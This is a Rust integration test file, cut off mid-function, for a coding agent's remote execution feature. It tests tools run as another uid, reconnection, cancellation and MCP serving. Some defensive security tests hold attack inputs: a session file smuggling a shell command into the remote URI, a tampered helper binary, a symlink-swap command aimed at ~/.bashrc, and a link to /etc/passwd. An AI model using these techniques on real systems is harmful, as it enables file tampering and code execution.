//! `--remote` and `agent_remote` against real transports: the `exec:`
//! transport into another uid (a stand-in for a container), and a real
//! OpenSSH server on a loopback port logging in an unprivileged user.
//! Everything runs as that other user, so permissions are real.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use agent_remote::{Remote, RemoteOptions, RemoteTarget};
use serde_json::{Value, json};
use test_support::process::{processes_of, wait_until};
use test_support::tool_call::execute_one;

/// The uid the `exec:` remote runs as.
const OTHER: u32 = 65534;

use crate::bin;

/// Whether this process can switch users (the suite runs as root in CI).
fn can_switch_users() -> bool {
    test_support::prerequisite(
        rustix::process::geteuid().is_root(),
        "root (the remote tests switch users)",
        "run the suite as root, as CI does",
    )
}

fn chown(path: &Path, uid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(uid)).unwrap();
}

/// A workspace and a home owned by `uid`, inside a directory everyone can
/// traverse.
struct Place {
    _root: tempfile::TempDir,
    ws: PathBuf,
    home: PathBuf,
}

fn place(uid: u32) -> Place {
    let root = tempfile::tempdir().unwrap();
    std::fs::set_permissions(root.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let ws = root.path().join("ws");
    let home = root.path().join("home");
    std::fs::create_dir_all(ws.join("src")).unwrap();
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(ws.join("notes.txt"), "alpha\nbeta\n").unwrap();
    std::fs::write(ws.join("src/lib.rs"), "fn zanzibar_marker() {}\n").unwrap();
    for p in [
        &ws,
        &ws.join("src"),
        &ws.join("notes.txt"),
        &ws.join("src/lib.rs"),
        &home,
    ] {
        chown(p, uid);
    }
    // Root's own file, unreadable by the other user.
    std::fs::write(ws.join("secret.txt"), "root only\n").unwrap();
    std::fs::set_permissions(
        ws.join("secret.txt"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    Place {
        _root: root,
        ws,
        home,
    }
}

/// `exec:` into `uid`, starting in `ws` with `home` as HOME.
fn exec_uri(p: &Place, uid: u32) -> String {
    format!(
        "exec:cd '{}' && exec env HOME='{}' setpriv --reuid {uid} --regid {uid} --clear-groups sh",
        p.ws.display(),
        p.home.display()
    )
}

fn batch(remote: &[&str], cases: &[Value], envs: &[(&str, &str)]) -> Vec<Value> {
    let mut cmd = Command::new(bin());
    cmd.args(["tool", "--batch", "-"]).args(remote);
    for (k, v) in envs {
        cmd.env(k, v);
    }
    results(&run_batch(cmd, cases)).0
}

/// Runs `cmd` (a `tool --batch -`) with `cases` on its stdin.
fn run_batch(mut cmd: Command, cases: &[Value]) -> std::process::Output {
    let input: String = cases.iter().map(|c| format!("{c}\n")).collect();
    let mut child = cmd
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

/// A successful batch's results, and its stderr.
fn results(out: &std::process::Output) -> (Vec<Value>, String) {
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "{}\n{stderr}", out.status);
    let results = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (results, stderr)
}

use test_support::cli::first_text as text;

/// The seven tools, one case each, plus the checks that only hold when
/// they really ran as the other user.
fn seven_tool_cases() -> Vec<Value> {
    vec![
        json!({"id": "read", "tool": "read", "args": {"path": "notes.txt"}}),
        json!({"id": "write", "tool": "write", "args": {"path": "made/new.txt", "content": "made remotely\n"}}),
        json!({"id": "edit", "tool": "edit", "args": {"path": "notes.txt", "edits": [{"oldText": "alpha", "newText": "gamma"}]}}),
        json!({"id": "grep", "tool": "grep", "args": {"pattern": "zanzibar_marker"}}),
        json!({"id": "find", "tool": "find", "args": {"pattern": "*.rs"}}),
        json!({"id": "ls", "tool": "ls", "args": {}}),
        json!({"id": "bash", "tool": "bash", "args": {"command": "id -u; pwd; echo \"key=${REMOTE_TEST_API_KEY:-unset}\""}}),
        json!({"id": "secret", "tool": "read", "args": {"path": "secret.txt"}}),
        json!({"id": "long", "tool": "bash", "args": {"command": "seq 1 30000"}}),
    ]
}

fn check_seven(results: &[Value], ws: &Path, uid: u32) {
    let by_id = |id: &str| {
        results
            .iter()
            .find(|r| r["id"] == id)
            .unwrap_or_else(|| panic!("no result {id}: {results:?}"))
    };
    for id in ["read", "write", "edit", "grep", "find", "ls", "bash"] {
        assert_eq!(by_id(id)["isError"], false, "{id}: {}", by_id(id));
    }
    assert!(text(by_id("read")).starts_with("alpha\nbeta"));
    assert!(text(by_id("grep")).contains("src/lib.rs:1: fn zanzibar_marker"));
    assert!(text(by_id("find")).contains("src/lib.rs"));
    assert!(text(by_id("ls")).contains("src/"));
    let bash = text(by_id("bash"));
    assert!(bash.starts_with(&format!("{uid}\n")), "{bash}");
    assert!(bash.contains(&ws.display().to_string()), "{bash}");
    // This side's secret never reached the other side.
    assert!(bash.contains("key=unset"), "{bash}");
    // Really written there, by that user.
    let made = ws.join("made/new.txt");
    assert_eq!(std::fs::read_to_string(&made).unwrap(), "made remotely\n");
    assert_eq!(std::fs::metadata(&made).unwrap().uid(), uid);
    assert!(
        std::fs::read_to_string(ws.join("notes.txt"))
            .unwrap()
            .starts_with("gamma")
    );
    // The kernel said no to that user.
    let secret = by_id("secret");
    assert_eq!(secret["isError"], true, "{secret}");
    assert!(
        text(secret).to_lowercase().contains("permission"),
        "{secret}"
    );
}

#[test]
fn the_seven_tools_run_on_the_other_side_as_its_user() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let uri = exec_uri(&p, OTHER);
    let results = batch(
        &["--remote", &uri],
        &seven_tool_cases(),
        &[("REMOTE_TEST_API_KEY", "sk-must-not-travel")],
    );
    check_seven(&results, &p.ws, OTHER);

    // No coding-agent on that PATH: the helper was uploaded into a private
    // cache, and is reused next time.
    let cache = p.home.join(".cache/coding-agent/helpers");
    let meta = std::fs::metadata(&cache).unwrap();
    assert_eq!(meta.mode() & 0o777, 0o700);
    assert_eq!(meta.uid(), OTHER);
    let cached: Vec<_> = std::fs::read_dir(&cache).unwrap().flatten().collect();
    assert_eq!(cached.len(), 1, "{cached:?}");
    let before = std::fs::metadata(cached[0].path()).unwrap().mtime();
    let again = batch(
        &["--remote", &uri],
        &[json!({"id": "ls", "tool": "ls", "args": {}})],
        &[],
    );
    assert_eq!(again[0]["isError"], false);
    assert_eq!(std::fs::metadata(cached[0].path()).unwrap().mtime(), before);
}

#[test]
fn a_tampered_cache_is_not_run() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let uri = exec_uri(&p, OTHER);
    batch(
        &["--remote", &uri],
        &[json!({"tool": "ls", "args": {}})],
        &[],
    );
    let cache = p.home.join(".cache/coding-agent/helpers");
    let cached = std::fs::read_dir(&cache)
        .unwrap()
        .flatten()
        .next()
        .unwrap()
        .path();
    // Someone else's file under the checksum's name is replaced, not run.
    // (Unlinked first: the last helper may still be running from it.)
    std::fs::remove_file(&cached).unwrap();
    std::fs::write(&cached, "#!/bin/sh\necho hijacked\n").unwrap();
    chown(&cached, 0);
    std::fs::set_permissions(&cached, std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = Command::new(bin())
        .args([
            "tool",
            "bash",
            "--remote",
            &uri,
            "--args",
            r#"{"command":"echo fine"}"#,
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stdout.contains("hijacked") && !stderr.contains("hijacked"));
    // The root-owned file cannot be replaced by the other user: a clear error.
    assert!(
        stdout.contains("fine") || stderr.contains("cannot upload the helper"),
        "{stdout}\n{stderr}"
    );
}

#[test]
fn connection_errors_say_what_is_wrong() {
    let out = Command::new(bin())
        .args(["tool", "ls", "--remote", "ftp://x/y"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown scheme"));

    let out = Command::new(bin())
        .args(["tool", "ls", "--remote", "exec:exit 3"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("closed before the helper started (exit status 3)"),
        "{stderr}"
    );

    let out = Command::new(bin())
        .args([
            "tool",
            "ls",
            "--remote",
            "exec:sh -c 'cd /nonexistent-dir-xyz && sh'",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));

    let out = Command::new(bin())
        .args([
            "tool",
            "ls",
            "--remote",
            "docker://no-such-container-here/x",
        ])
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("cannot start docker"), "{stderr}");
}

async fn connect(uri: &str, extra_ssh: Vec<String>) -> Remote {
    let options = RemoteOptions::default()
        .helper_binary(bin())
        .ssh_options(extra_ssh)
        .keepalive(Duration::from_secs(2));
    Remote::connect(RemoteTarget::parse(uri).unwrap(), options)
        .await
        .unwrap()
}

async fn bash_on(
    remote: &Remote,
    cwd: &Path,
    command: &str,
    cancel: agent_core::CancellationToken,
) -> agent_core::AgentToolResult {
    let tool = tools_builtin::ToolSet::new(cwd)
        .operations(remote.operations())
        .tool("bash")
        .unwrap();
    let call = agent_ai::ToolCall::new("c", "bash", json!({ "command": command }));
    execute_one(&tool.tool(), &call, &cancel).await.0
}

fn result_text(r: &agent_core::AgentToolResult) -> String {
    serde_json::to_value(&r.content).unwrap()[0]["text"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cut_link_fails_the_calls_in_flight_and_the_next_call_reconnects() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let remote = connect(&exec_uri(&p, OTHER), Vec::new()).await;
    assert_eq!(remote.cwd(), p.ws.as_path());
    let marker = format!("sleep 4242{}", std::process::id() % 97);
    let (r, cwd, m) = (remote.clone(), p.ws.clone(), marker.clone());
    let running =
        tokio::spawn(
            async move { bash_on(&r, &cwd, &m, agent_core::CancellationToken::new()).await },
        );
    wait_until("the remote sleep runs", || {
        !processes_of(OTHER, &marker).is_empty()
    })
    .await;
    // The helper dies with the link (here: the whole remote side).
    let pid = remote.transport_pid().unwrap();
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(pid as i32).unwrap(),
        rustix::process::Signal::KILL,
    )
    .unwrap();
    let result = tokio::time::timeout(Duration::from_secs(60), running)
        .await
        .expect("the call in flight must end, not hang")
        .unwrap();
    let text = result_text(&result);
    assert!(
        text.contains("connection to exec:") && text.contains("was lost"),
        "{text}"
    );
    for pid in processes_of(OTHER, &marker) {
        let _ = rustix::process::kill_process(
            rustix::process::Pid::from_raw(pid as i32).unwrap(),
            rustix::process::Signal::KILL,
        );
    }
    // The next call opens a new channel and works.
    let again = bash_on(
        &remote,
        &p.ws,
        "echo back",
        agent_core::CancellationToken::new(),
    )
    .await;
    assert_eq!(result_text(&again), "back\n");
    assert_eq!(remote.channels_opened(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancelling_kills_the_remote_process_tree() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let remote = connect(&exec_uri(&p, OTHER), Vec::new()).await;
    let marker = format!("sleep 4343{}", std::process::id() % 97);
    let cancel = agent_core::CancellationToken::new();
    let (r, cwd, m, c) = (remote.clone(), p.ws.clone(), marker.clone(), cancel.clone());
    // A background grandchild too: the whole tree goes.
    let running =
        tokio::spawn(async move { bash_on(&r, &cwd, &format!("({m} &) ; {m}"), c).await });
    wait_until("both sleeps run", || {
        processes_of(OTHER, &marker).len() >= 2
    })
    .await;
    cancel.cancel();
    let result = tokio::time::timeout(Duration::from_secs(60), running)
        .await
        .expect("a cancelled call must end")
        .unwrap();
    assert!(
        result_text(&result).to_lowercase().contains("abort"),
        "{:?}",
        result.content
    );
    wait_until("the remote tree is gone", || {
        processes_of(OTHER, &marker).is_empty()
    })
    .await;
    // Same channel still fine.
    assert_eq!(remote.channels_opened(), 1);
}

/// A place whose `link.txt` is a symlink to `notes.txt`, and a remote
/// there; `None` where users cannot be switched.
async fn linked_place_and_remote() -> Option<(Place, Remote)> {
    if !can_switch_users() {
        return None;
    }
    let p = place(OTHER);
    std::os::unix::fs::symlink(p.ws.join("notes.txt"), p.ws.join("link.txt")).unwrap();
    let remote = connect(&exec_uri(&p, OTHER), Vec::new()).await;
    Some((p, remote))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_spellings_of_one_remote_file_share_a_queue() {
    let Some((p, remote)) = linked_place_and_remote().await else {
        return;
    };
    let queue = remote.mutation_queue();
    let inside = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let overlaps = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let spellings = [
        p.ws.join("notes.txt"),
        p.ws.join("link.txt"),
        p.ws.join("src/../notes.txt"),
    ];
    let mut tasks = Vec::new();
    for i in 0..9 {
        let (queue, inside, overlaps) = (queue.clone(), inside.clone(), overlaps.clone());
        let path = spellings[i % 3].clone();
        tasks.push(tokio::spawn(async move {
            queue
                .run(&path, async {
                    if inside.fetch_add(1, std::sync::atomic::Ordering::SeqCst) > 0 {
                        overlaps.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                    }
                    tokio::time::sleep(Duration::from_millis(20)).await;
                    inside.fetch_sub(1, std::sync::atomic::Ordering::SeqCst);
                })
                .await
                .unwrap();
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    assert_eq!(overlaps.load(std::sync::atomic::Ordering::SeqCst), 0);

    // And through the tools: parallel edits by different spellings all land.
    let tools = tools_builtin::ToolSet::new(&p.ws)
        .operations(remote.operations())
        .queue(queue.clone());
    let edit = tools.tool("edit").unwrap().tool();
    std::fs::write(p.ws.join("notes.txt"), "a1\na2\na3\na4\na5\na6\n").unwrap();
    let mut calls = Vec::new();
    for i in 1..=6 {
        let path = ["notes.txt", "link.txt", "src/../notes.txt"][i % 3];
        let call = agent_ai::ToolCall::new(
            format!("c{i}"),
            "edit",
            json!({"path": path, "edits": [{"oldText": format!("a{i}\n"), "newText": format!("b{i}\n")}]}),
        );
        let edit = edit.clone();
        calls.push(tokio::spawn(async move {
            execute_one(&edit, &call, &agent_core::CancellationToken::new()).await
        }));
    }
    for c in calls {
        let (result, is_error) = c.await.unwrap();
        assert!(!is_error, "{:?}", result.content);
    }
    assert_eq!(
        std::fs::read_to_string(p.ws.join("notes.txt")).unwrap(),
        "b1\nb2\nb3\nb4\nb5\nb6\n"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_handle_of_a_remote_shares_its_mutation_queue() {
    let Some((p, remote)) = linked_place_and_remote().await else {
        return;
    };
    let first = remote.mutation_queue();
    let second = remote.clone().mutation_queue();
    let order = Arc::new(Mutex::new(Vec::new()));
    let (entered, is_entered) = tokio::sync::oneshot::channel();
    let (release, released) = tokio::sync::oneshot::channel::<()>();
    let (queue, log, path) = (first.clone(), order.clone(), p.ws.join("notes.txt"));
    let holder = tokio::spawn(async move {
        queue
            .run(&path, async {
                entered.send(()).unwrap();
                released.await.unwrap();
                log.lock().unwrap().push("first done");
            })
            .await
            .unwrap();
    });
    is_entered.await.unwrap();
    // The file held through one handle is busy through the other.
    assert_eq!(second.active_keys(), 1);
    let (queue, log, path) = (second.clone(), order.clone(), p.ws.join("link.txt"));
    let waiter = tokio::spawn(async move {
        queue
            .run(&path, async { log.lock().unwrap().push("second ran") })
            .await
            .unwrap();
    });
    // Give the second a chance to overtake; it must wait instead.
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(order.lock().unwrap().is_empty());
    release.send(()).unwrap();
    holder.await.unwrap();
    waiter.await.unwrap();
    assert_eq!(*order.lock().unwrap(), ["first done", "second ran"]);
}

/// An agent run in JSON mode with a scripted model: its
/// `tool_execution_end` events.
fn agent_run(agent_dir: &Path, here: &Path, script: &Path, extra: &[&str]) -> Vec<Value> {
    let out = Command::new(bin())
        .env("CODING_AGENT_DIR", agent_dir)
        .arg("--cwd")
        .arg(here)
        .arg("--script")
        .arg(script)
        .args(["--mode", "json"])
        .args(extra)
        .arg("go")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["type"] == "tool_execution_end")
        .collect()
}

#[test]
fn an_agent_run_records_its_remote_and_continuing_reconnects_there() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let uri = exec_uri(&p, OTHER);
    let local = tempfile::tempdir().unwrap();
    let agent_dir = local.path().join("agent");
    let here = local.path().join("here");
    std::fs::create_dir_all(&agent_dir).unwrap();
    std::fs::create_dir_all(&here).unwrap();
    let script = |name: &str, turns: &[Value]| {
        let path = local.path().join(name);
        std::fs::write(
            &path,
            turns.iter().map(|t| format!("{t}\n")).collect::<String>(),
        )
        .unwrap();
        path
    };
    let first = script(
        "first.jsonl",
        &[
            json!({"content": [{"type": "toolCall", "id": "c1", "name": "read", "arguments": {"path": "notes.txt"}}]}),
            json!({"content": [{"type": "toolCall", "id": "c2", "name": "bash", "arguments": {"command": "id -u"}}]}),
            json!({"content": [{"type": "text", "text": "done"}]}),
        ],
    );
    let run = |script: &Path, extra: &[&str]| agent_run(&agent_dir, &here, script, extra);
    let ends = run(&first, &["--remote", &uri]);
    assert_eq!(ends.len(), 2, "{ends:?}");
    assert!(ends.iter().all(|e| e["isError"] == false), "{ends:?}");
    assert!(
        ends[0]["result"]["content"][0]["text"]
            .as_str()
            .unwrap()
            .starts_with("alpha")
    );
    assert_eq!(
        ends[1]["result"]["content"][0]["text"],
        format!("{OTHER}\n")
    );

    // The session header names the remote...
    let sessions: Vec<PathBuf> = walk_files(&agent_dir.join("sessions"));
    assert_eq!(sessions.len(), 1, "{sessions:?}");
    let header: Value = serde_json::from_str(
        std::fs::read_to_string(&sessions[0])
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(header["remote"], uri.as_str());

    // ...and `-c` goes back there without being told.
    let second = script(
        "second.jsonl",
        &[
            json!({"content": [{"type": "toolCall", "id": "c3", "name": "bash", "arguments": {"command": "id -u; pwd"}}]}),
            json!({"content": [{"type": "text", "text": "done"}]}),
        ],
    );
    let ends = run(&second, &["-c"]);
    assert_eq!(ends.len(), 1, "{ends:?}");
    assert_eq!(
        ends[0]["result"]["content"][0]["text"],
        format!("{OTHER}\n{}\n", p.ws.display())
    );
}

fn walk_files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk_files(&path));
        } else {
            out.push(path);
        }
    }
    out
}

#[test]
fn the_mcp_server_serves_the_remote_tools() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let mut child = Command::new(bin())
        .args(["mcp", "--remote", &exec_uri(&p, OTHER)])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    use std::io::{BufRead, Write};
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut send = |v: Value| writeln!(stdin, "{v}").unwrap();
    let mut answer = |id: i64| loop {
        let mut line = String::new();
        assert!(stdout.read_line(&mut line).unwrap() > 0, "the server ended");
        let v: Value = serde_json::from_str(&line).unwrap();
        if v["id"] == id {
            return v;
        }
    };
    send(
        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}),
    );
    assert!(answer(1)["result"]["serverInfo"].is_object());
    send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
    send(
        json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
        "name": "bash", "arguments": {"command": "id -u; pwd"}}}),
    );
    let result = answer(2);
    assert_eq!(
        result["result"]["content"][0]["text"],
        format!("{OTHER}\n{}\n", p.ws.display()),
        "{result}"
    );
    send(
        json!({"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {
        "name": "read", "arguments": {"path": "notes.txt"}}}),
    );
    assert!(
        answer(3)["result"]["content"][0]["text"]
            .as_str()
            .unwrap()
            .starts_with("alpha")
    );
    // As locally, the MCP server confines its tools by default: on the
    // remote, where the remote can enforce it.
    if Path::new("/usr/bin/bwrap").exists() {
        let outside = p.home.join("MCP_OUTSIDE_WRITE");
        send(
            json!({"jsonrpc": "2.0", "id": 4, "method": "tools/call", "params": {
            "name": "bash", "arguments": {"command": format!("touch {}", outside.display())}}}),
        );
        let result = answer(4);
        assert_eq!(result["result"]["isError"], true, "{result}");
        assert!(!outside.exists());
    }
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
fn a_session_file_from_elsewhere_cannot_choose_the_remote() {
    let root = tempfile::tempdir().unwrap();
    let mark = root.path().join("pwned");
    let planted = root.path().join("repo-session.jsonl");
    std::fs::write(
        &planted,
        format!(
            "{}\n",
            json!({"type": "session", "version": 3, "id": "0b0b0b0b-0000-4000-8000-000000000000",
                   "timestamp": "2026-01-01T00:00:00.000Z", "cwd": root.path(),
                   "remote": format!("exec:touch {}; sh", mark.display())})
        ),
    )
    .unwrap();
    let script = root.path().join("s.jsonl");
    std::fs::write(
        &script,
        format!("{}\n", json!({"content": [{"type": "text", "text": "hi"}]})),
    )
    .unwrap();
    let out = Command::new(bin())
        .env("CODING_AGENT_DIR", root.path().join("agent"))
        .arg("--cwd")
        .arg(root.path())
        .arg("--session")
        .arg(&planted)
        .arg("--script")
        .arg(&script)
        .args(["--mode", "json", "go"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(!mark.exists(), "the planted remote command ran");
    assert!(stderr.contains("not one of your session files"), "{stderr}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_silent_link_is_declared_dead_by_the_keep_alive() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let options = RemoteOptions::default()
        .helper_binary(bin())
        .keepalive(Duration::from_millis(500));
    let remote = Remote::connect(RemoteTarget::parse(&exec_uri(&p, OTHER)).unwrap(), options)
        .await
        .unwrap();
    let marker = format!("sleep 4646{}", std::process::id() % 97);
    let (r, cwd, m) = (remote.clone(), p.ws.clone(), marker.clone());
    let running =
        tokio::spawn(
            async move { bash_on(&r, &cwd, &m, agent_core::CancellationToken::new()).await },
        );
    wait_until("the remote sleep runs", || {
        !processes_of(OTHER, &marker).is_empty()
    })
    .await;
    // The other side freezes: the pipes stay open, nothing answers.
    let helper = rustix::process::Pid::from_raw(remote.transport_pid().unwrap() as i32).unwrap();
    rustix::process::kill_process(helper, rustix::process::Signal::STOP).unwrap();
    let result = tokio::time::timeout(Duration::from_secs(60), running)
        .await
        .expect("the keep-alive must end the call")
        .unwrap();
    let text = result_text(&result);
    assert!(text.contains("no answer to keep-alives"), "{text}");
    for pid in processes_of(OTHER, &marker) {
        let _ = rustix::process::kill_process(
            rustix::process::Pid::from_raw(pid as i32).unwrap(),
            rustix::process::Signal::KILL,
        );
    }
    let _ = rustix::process::kill_process(helper, rustix::process::Signal::KILL);
}

/// Review finding: the full-output file was reopened by path for each
/// piece, outside the sandbox, so a sandboxed command could swap it for a
/// symlink and have the helper write any file of the remote user.
#[test]
fn a_sandboxed_command_cannot_redirect_its_output_file() {
    if !can_switch_users()
        || !test_support::prerequisite(
            Path::new("/usr/bin/bwrap").exists(),
            "bubblewrap",
            "apt-get install -y bubblewrap",
        )
    {
        return;
    }
    let p = place(OTHER);
    let tmp = p.home.parent().unwrap().join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let victim = p.home.join(".bashrc");
    std::fs::write(&victim, "# mine\n").unwrap();
    chown(&victim, OTHER);
    let uri = format!(
        "exec:cd '{}' && exec env HOME='{}' TMPDIR='{}' setpriv --reuid {OTHER} --regid {OTHER} --clear-groups sh",
        p.ws.display(),
        p.home.display(),
        tmp.display()
    );
    let command = "seq 1 30000; sleep 1; f=$(ls -t $TMPDIR/coding-agent-bash-*.log | head -1); \
                   rm -f $f && ln -s $HOME/.bashrc $f && echo swapped; echo 'touch $HOME/PWNED'; seq 1 30000";
    let out = Command::new(bin())
        .args([
            "tool",
            "bash",
            "--sandbox",
            "workspace-write",
            "--remote",
            &uri,
            "--args",
        ])
        .arg(json!({ "command": command }).to_string())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("fullOutputPath"), "{stdout}");
    let now = std::fs::read_to_string(&victim).unwrap();
    assert!(
        now == "# mine\n",
        "the file behind the link was written ({} bytes)",
        now.len()
    );
}

#[test]
fn the_prompt_reads_the_remote_projects_context_files_through_the_remote() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    std::fs::create_dir(p.ws.join(".git")).unwrap();
    std::fs::write(p.ws.join("AGENTS.md"), "Remote rule: zebra-crossing\n").unwrap();
    std::fs::create_dir(p.ws.join("sub")).unwrap();
    // A link out of the project is not read.
    std::os::unix::fs::symlink("/etc/passwd", p.ws.join("sub/AGENTS.md")).unwrap();
    for d in [p.ws.join(".git"), p.ws.join("AGENTS.md"), p.ws.join("sub")] {
        chown(&d, OTHER);
    }
    let uri = format!(
        "exec:cd '{}' && exec env HOME='{}' setpriv --reuid {OTHER} --regid {OTHER} --clear-groups sh",
        p.ws.join("sub").display(),
        p.home.display()
    );
    let local = tempfile::tempdir().unwrap();
    let out = Command::new(bin())
        .env("CODING_AGENT_DIR", local.path().join("agent"))
        .arg("--cwd")
        .arg(local.path())
        .args(["--remote", &uri, "--print-system-prompt"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let prompt = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(prompt.contains("zebra-crossing"), "{prompt}");
    assert!(
        !prompt.contains("root:x:0:0"),
        "a link out of the project was read"
    );
    assert!(
        prompt.contains(&p.ws.join("sub").display().to_string()),
        "the remote cwd is shown"
    );
}

#[test]
fn a_tilde_means_the_remote_users_home() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    std::fs::write(p.home.join("note.txt"), "remote home note\n").unwrap();
    chown(&p.home.join("note.txt"), OTHER);
    let results = batch(
        &["--remote", &exec_uri(&p, OTHER)],
        &[
            json!({"id": "tilde", "tool": "read", "args": {"path": "~/note.txt"}}),
            json!({"id": "at", "tool": "ls", "args": {"path": "@~"}}),
        ],
        &[],
    );
    assert_eq!(text(&results[0]), "remote home note\n", "{results:?}");
    assert!(text(&results[1]).contains("note.txt"), "{results:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_helper_there_and_none_to_upload_is_its_own_error() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    // No `coding-agent` on that PATH, no cached copy, and no binary offered.
    let options = RemoteOptions::default();
    let error = Remote::connect(RemoteTarget::parse(&exec_uri(&p, OTHER)).unwrap(), options)
        .await
        .unwrap_err();
    assert!(
        matches!(error, agent_remote::RemoteError::HelperMissing { .. }),
        "{error}"
    );
    let text = error.to_string();
    assert!(
        text.contains("no coding-agent helper there") && text.contains("install coding-agent"),
        "{text}"
    );
}

/// Whether bash can be sandboxed here: bubblewrap where the sandbox looks
/// for it (`CODING_AGENT_BWRAP`, else the system directories).
fn have_bwrap() -> bool {
    let named = std::env::var_os("CODING_AGENT_BWRAP").is_some_and(|p| Path::new(&p).is_file());
    test_support::prerequisite(
        named || Path::new("/usr/bin/bwrap").exists(),
        "bubblewrap",
        "apt-get install -y bubblewrap",
    )
}

/// A local agent directory whose settings file holds `settings`, and a
/// local working directory without project settings.
struct Local {
    _dir: tempfile::TempDir,
    agent_dir: PathBuf,
    cwd: PathBuf,
}

fn local_with(settings: Value) -> Local {
    let dir = tempfile::tempdir().unwrap();
    let agent_dir = dir.path().join("agent");
    let cwd = dir.path().join("here");
    std::fs::create_dir_all(&agent_dir).unwrap();
    std::fs::create_dir_all(&cwd).unwrap();
    std::fs::write(agent_dir.join("settings.json"), settings.to_string()).unwrap();
    Local {
        _dir: dir,
        agent_dir,
        cwd,
    }
}

/// `exec:` into the other user with a settings directory of its own
/// (`$HOME/.pi/agent`), after `setup` (run as root, in the transport's
/// shell).
fn remote_uri(p: &Place, setup: &str) -> String {
    format!(
        "exec:{setup}cd {} && exec env HOME={} CODING_AGENT_DIR={}/.pi/agent setpriv --reuid {OTHER} --regid {OTHER} --clear-groups sh",
        p.ws.display(),
        p.home.display(),
        p.home.display()
    )
}

/// `coding-agent tool --batch` with `local`'s settings on `uri`: the
/// results, and stderr.
fn batch_with(local: &Local, uri: &str, cases: &[Value]) -> (Vec<Value>, String) {
    batch_flags(local, uri, cases, &[])
}

/// [`batch_with`] with more flags.
fn batch_flags(local: &Local, uri: &str, cases: &[Value], flags: &[&str]) -> (Vec<Value>, String) {
    results(&run_batch(local_batch(local, uri, flags), cases))
}

/// `coding-agent tool --batch -` with `local`'s settings on `uri`.
fn local_batch(local: &Local, uri: &str, flags: &[&str]) -> Command {
    let mut cmd = Command::new(bin());
